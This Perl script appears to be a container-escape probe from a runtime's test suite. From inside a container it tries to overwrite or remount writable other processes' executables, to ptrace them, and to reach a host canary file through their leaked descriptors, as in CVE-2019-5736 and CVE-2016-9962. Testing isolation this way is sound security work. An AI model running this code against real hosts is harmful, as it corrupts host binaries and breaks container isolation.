# From inside a container: goes for the executable of every process that is not of the image, as
# CVE-2019-5736 did, by every way that writes to a file or makes its mount writable. Also tries to
# trace such processes and to read their descriptors (CVE-2016-9962).
# usage: perl attack-exe.pl plain|userns [CANARY]     until /tmp/stop is there
# CANARY is the path of a file of the host, which is looked for from every descriptor.
use strict;
use warnings;
use Fcntl;

$| = 1;
# unshare(2): CLONE_NEWUSER | CLONE_NEWNS
if (($ARGV[0] // '') eq 'userns') {
    print syscall(272, 0x10020000) == 0 ? "unshared\n" : "unshare: $!\n";
}
my ($seen, %told) = (0);
my %ours = map { join(' ', (stat $_)[0, 1]) => 1 } '/bin/true', '/probe', $^X;
sub tell_once { print "$_[0]\n" unless $told{$_[0]}++ }

sub write_to {
    my ($path, $what) = @_;
    for my $how (O_WRONLY, O_RDWR, O_WRONLY | O_APPEND) {
        next unless sysopen(my $file, $path, $how);
        # It has become the image's own program meanwhile.
        next if $ours{join ' ', (stat $file)[0, 1]};
        syswrite($file, 'pwned');
        tell_once("OPENED $what");
    }
}

# struct mount_attr: clear MOUNT_ATTR_RDONLY
my $writable = pack('QQQQ', 0, 1, 0, 0);
my ($none, $empty, $kind) = ("none\0", "\0", "\0");
sub attack {
    my ($exe, $what) = @_;
    write_to($exe, $what);
    my $path = "$exe\0";
    tell_once("mount_setattr $what") if syscall(442, -100, $path, 0, $writable, 32) == 0;
    # mount(2): MS_REMOUNT | MS_BIND
    tell_once("remount $what") if syscall(165, $none, $path, $kind, 4128, 0) == 0;
    # open_tree(2): OPEN_TREE_CLONE
    my $tree = syscall(428, -100, $path, 1);
    if ($tree >= 0) {
        # AT_EMPTY_PATH
        syscall(442, $tree, $empty, 0x1000, $writable, 32);
        write_to("/proc/self/fd/$tree", "tree of $what");
        syscall(3, $tree);
    }
    write_to($exe, $what);
}

sub trace {
    my ($pid, $exe) = @_;
    # PTRACE_ATTACH; it has stopped when waitpid(2) with __WALL returns.
    return if syscall(101, 16, $pid + 0, 0, 0) != 0;
    waitpid($pid, 0x40000000);
    # ENOENT: it has ended.
    my $link = readlink($exe) // ($!{ENOENT} ? '/bin/gone' : '?');
    # It may have become the image's program meanwhile.
    tell_once("TRACED $link") unless $link =~ m{^/(usr|bin|probe)};
    # PTRACE_DETACH
    syscall(101, 17, $pid + 0, 0, 0);
    # What stopped first may have been its execve(2), and the stop of the attach be pending.
    kill('CONT', $pid);
}

print "ready\n";
until (-e '/tmp/stop') {
    opendir(my $proc, '/proc') or die;
    for my $pid (grep { /^\d+$/ && $_ != $$ } readdir $proc) {
        my $exe = "/proc/$pid/exe";
        my $link = readlink($exe);
        next if !defined $link && $!{ENOENT};
        next if defined $link && $link =~ m{^/(usr/|bin/|probe)};
        $seen++;
        tell_once('met');
        trace($pid, $exe);
        if (opendir(my $fds, "/proc/$pid/fd")) {
            for my $fd (readdir $fds) {
                my $target = readlink("/proc/$pid/fd/$fd") // next;
                for my $way ('', '../' x 12, '1/root/', '1/cwd/') {
                    open(my $file, '<', "/proc/$pid/fd/$fd/$way" . ($ARGV[1] // last)) or next;
                    tell_once("ESCAPED by $target/$way");
                }
                $target =~ s/\d+/N/g;
                tell_once("FD $target");
            }
        }
        attack($exe, $link // '?');
    }
}
print "seen $seen\n";
